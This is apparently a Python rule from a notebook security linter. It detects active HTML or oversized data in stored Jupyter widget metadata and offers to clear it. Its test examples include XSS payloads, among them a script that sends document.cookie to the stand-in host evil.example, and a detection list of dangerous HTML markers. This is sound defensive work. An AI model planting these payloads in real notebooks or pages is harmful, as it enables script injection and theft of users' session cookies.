"""What widgets left in the metadata of a notebook."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from ...sdk import (
    Applicability,
    Confidence,
    Example,
    Match,
    Notebook,
    Place,
    Proposal,
    Severity,
    TextEdit,
    regex,
    rule,
)
from .acting import in_html
from .scripts import judge

_LARGE = 1_000_000  # characters
_POINTER = "/metadata/widgets"
# In the text of the whole state, before any of it is looked at.
_SUSPECT = ("<script", "javascript:", "vbscript:", "srcdoc", "<iframe", "<object", "<embed", "<form", "_esm'")
_HANDLER = regex(r"on[a-z]{4,20}\s{0,4}=")
_STATE = (
    '# %% [notebook metadata]\n{"MARK": {"application/vnd.jupyter.widget-state+json": {"state": {"a1": {"model_name": '
    '"HTMLModel", "model_module": "@jupyter-widgets/controls", "state": {"value": "VALUE"}}}}}}'
)


def _state(value: str, mark: str = "«widgets»") -> str:
    return _STATE.replace("MARK", mark).replace("VALUE", value)


@rule(
    id="widget-state-payload",
    on=Notebook,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    title="Stored widgets that act, or are very large",
    cwe=[79, 506],
    atlas=["AML.T0011"],
    bad=[
        Example(_state("<img src=x onerror=alert(1)>"), fixed="# %% [notebook metadata]\n{}"),
        _state("<script>fetch('https://evil.example/?' + document.cookie)</script>"),
        _state("<a href='javascript:alert(1)'>x</a>"),
    ],
    ok=[
        _state("<b>Pro tip:</b> 100%|##########|", "widgets"),
        _state("<img src='data:image/png;base64,AAAA'><i>onward = 1</i>", "widgets"),
        "import ipywidgets\nipywidgets.HTML('<img src=x onerror=alert(1)>')",
    ],
)
def widget_state(notebook: Notebook) -> Iterator[Match]:
    """Stored widgets are drawn again when the notebook is opened, and what they hold is shown in no cell.

    Clear the widget state; running the cells makes it anew."""
    metadata = notebook.json.get("metadata")
    widgets = metadata.get("widgets") if isinstance(metadata, dict) else None
    if not isinstance(widgets, dict) or not widgets:
        return
    text = repr(widgets).lower()  # the quickest way to look through it
    severity, message = None, ""
    if any(word in text for word in _SUSPECT) or _HANDLER.search(text):
        for one, what in _acting(widgets):
            if severity is None or one.rank > severity.rank:
                severity, message = one, f"A stored widget holds {what}"
    if severity is None and len(text) > _LARGE:
        severity, message = Severity.LOW, f"Stored widgets of {len(text) / 1e6:.1f} million characters"
    if severity is not None:
        clear = Proposal("Clear the widget state", Applicability.SAFE, (TextEdit(None, pointer=_POINTER),))
        yield Match(None, message, severity, related=(Place(_POINTER, None),), proposals=(clear,))


def _acting(widgets: dict[str, Any]) -> Iterator[tuple[Severity, str]]:
    """What acts in the texts of the state, with an own stack: the file decides how deep it goes."""
    stack: list[tuple[str, Any]] = [("", widgets)]
    while stack:
        key, value = stack.pop()
        if isinstance(value, dict):
            stack.extend(value.items())
        elif isinstance(value, list):
            stack.extend((key, member) for member in value)
        elif isinstance(value, str) and key == "_esm":
            verdict = judge(value)
            if verdict.severity.rank > Severity.LOW.rank:
                yield verdict.severity, verdict.message
        elif isinstance(value, str) and "<" in value:
            for act in in_html(value):
                if act.severity.rank >= Severity.LOW.rank:
                    yield max(act.severity, Severity.MEDIUM, key=lambda s: s.rank), act.message
